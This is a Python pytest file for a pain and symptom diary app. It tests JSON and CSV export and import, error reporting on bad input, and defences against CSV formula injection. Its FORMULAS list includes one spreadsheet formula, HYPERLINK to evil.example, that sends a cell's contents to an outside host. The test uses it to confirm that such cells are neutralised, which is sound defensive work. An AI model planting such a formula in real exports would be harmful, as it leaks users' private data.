"""Diary export and import: lossless JSON and CSV round trips, and readable errors."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from diary_strategies import diaries
from hypothesis import HealthCheck, given, settings

from plexnav.diary import DiaryFormatError, from_csv, from_json, read_diary, to_csv, to_json
from plexnav.diary.exchange import FIXED

DATA = Path(__file__).parent / "data"
FIXTURE = DATA / "recovery-diary.json"


@pytest.fixture(scope="module")
def diary():
    return from_json(FIXTURE.read_text())


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(diaries)
def test_json_and_csv_round_trips_are_lossless(d):
    assert from_json(to_json(d)) == d
    assert from_json(to_json(d, indent=None).encode("utf-8")) == d
    text = to_csv(d)
    assert from_csv(text) == d
    assert from_csv(text.encode("utf-8")) == d


def test_fixture_round_trips_through_both_formats(diary):
    assert len(diary.entries) == 18
    assert from_json(to_json(diary)) == diary
    assert from_csv(to_csv(diary)) == diary
    assert from_json(to_json(from_csv(to_csv(diary)))) == diary


def test_json_carries_the_format_and_leaves_defaults_out(diary):
    doc = json.loads(to_json(diary))
    assert doc["format"] == "plexnav-diary/1"
    assert "bladder_change" not in doc["entries"][0]
    assert doc["entries"][0]["pain"][0] == {"region": "groin", "side": "right", "score": 6.0}


def test_csv_has_one_row_per_entry_and_readable_columns(diary):
    rows = list(csv.DictReader(io.StringIO(to_csv(diary), newline="")))
    assert len(rows) == len(diary.entries)
    header = list(rows[0])
    assert header[:3] == ["date", "time", "author"]
    assert {
        "pain:anterior_thigh:right",
        "pain:groin:right",
        "numb:medial_leg:right",
        "mrc:knee_extension:right",
        "mrc:hip_flexion:right",
    } <= set(header)
    assert set(FIXED) <= set(header)
    first = rows[0]
    assert first["date"] == "2026-09-07" and first["pain:anterior_thigh:right"] == "8"
    assert first["bladder_change"] == "no" and first["numb:medial_leg:right"] == "yes"
    meds = [r["medication_changes"] for r in rows if r["medication_changes"]]
    assert json.loads(meds[0]) == [{"medication": "pregabalin", "change": "started", "note": "for burning pain"}]


def test_csv_edited_in_a_spreadsheet_still_reads():
    text = (
        "\ufeffnotes,date,pain:groin:left,walking,bladder_change,numb:saddle:bilateral\r\n"
        '"sore, but better",2026-01-05,4.5,7,No,\r\n'
        ",2026-01-06,,,yes,Yes\r\n"
    )
    d = from_csv(text)
    assert d.entries[0].notes == "sore, but better" and d.entries[0].pain[0].score == 4.5
    assert d.entries[0].function.walking == 7 and not d.entries[0].bladder_change
    assert d.entries[1].bladder_change and d.entries[1].numbness[0].region == "saddle"


@pytest.mark.parametrize(
    "text, message",
    [
        ("", "no header"),
        ("date,mood\r\n2026-01-01,5\r\n", "unknown column"),
        ("time\r\n10:00\r\n", "needs a 'date' column"),
        ("date,date\r\n2026-01-01,2026-01-01\r\n", "given twice"),
        ("date,pain:groin:left\r\n2026-01-01,lots\r\n", "row 2, column 'pain:groin:left': 'lots' is not a number"),
        ("date,pain:groin:left\r\n2026-01-01,12\r\n", "row 2: pain.0.score"),
        ("date,falls\r\n2026-01-01,1.5\r\n", "not a whole number"),
        ("date,bladder_change\r\n2026-01-01,maybe\r\n", "not yes or no"),
        ("date,events\r\n2026-01-01,[oops\r\n", "not a JSON list"),
        ("date\r\nyesterday\r\n", "row 2: date"),
        ("date,notes\r\n2026-01-01,a,b\r\n", "more cells"),
    ],
)
def test_bad_csv_is_refused_with_located_problems(text, message):
    with pytest.raises(DiaryFormatError) as info:
        from_csv(text)
    assert any(message in p for p in info.value.problems), info.value.problems


@pytest.mark.parametrize(
    "text, message",
    [
        ("{", "not valid JSON"),
        ("[]", "JSON object"),
        ('{"format": "plexnav-diary/2"}', "format"),
        (
            '{"entries": [{"date": "2026-01-01", "pain": [{"region": "groin", "side": "left", "score": 99}]}]}',
            "entries.0.pain.0.score",
        ),
    ],
)
def test_bad_json_is_refused_with_located_problems(text, message):
    with pytest.raises(DiaryFormatError) as info:
        from_json(text)
    assert any(message in p for p in info.value.problems), info.value.problems


def test_read_diary_picks_the_format_from_the_name(diary):
    assert read_diary(to_csv(diary), "export.CSV") == diary
    assert read_diary(to_json(diary).encode(), "diary.json") == diary


@pytest.mark.parametrize(
    "notes",
    [
        "\r",
        "  leading and trailing  ",
        "a\r\nb\nc",
        '"quoted", with comma',
        "=1+1",
        "tab\there",
        "naïve – ünïcödé ✓",
        "yes",
        "",
    ],
)
def test_awkward_free_text_survives_csv(notes):
    from plexnav.diary import Diary, DiaryEntry

    d = Diary(entries=[DiaryEntry(date="2026-01-01", notes=notes, events=[{"kind": "other", "description": notes}])])
    assert from_csv(to_csv(d)) == d


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3",
    "\tindented",
    "\rreturn",
    "'=already quoted",
    "''@twice",
    "'plain quote",
    "a = b",
    "=",
    "'",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_that_spreadsheets_run_as_formulas_are_neutralised_and_come_back_unchanged(text):
    """Issue 12, item 8: CSV formula injection in diary exports (OWASP: quote = + - @ tab CR)."""
    import csv
    import datetime as dt
    import io

    from plexnav.diary.exchange import FORMULA_START, from_csv, to_csv
    from plexnav.diary.models import Diary, DiaryEntry

    diary = Diary(
        entries=[
            DiaryEntry(
                date=dt.date(2026, 1, 5),
                notes=text,
                medication_changes=[{"medication": text, "change": "started"}],
                events=[{"kind": "other", "description": text}],
            )
        ]
    )
    exported = to_csv(diary)
    for row in csv.reader(io.StringIO(exported, newline="")):
        assert not any(cell.startswith(FORMULA_START) for cell in row), row
    assert from_csv(exported) == diary
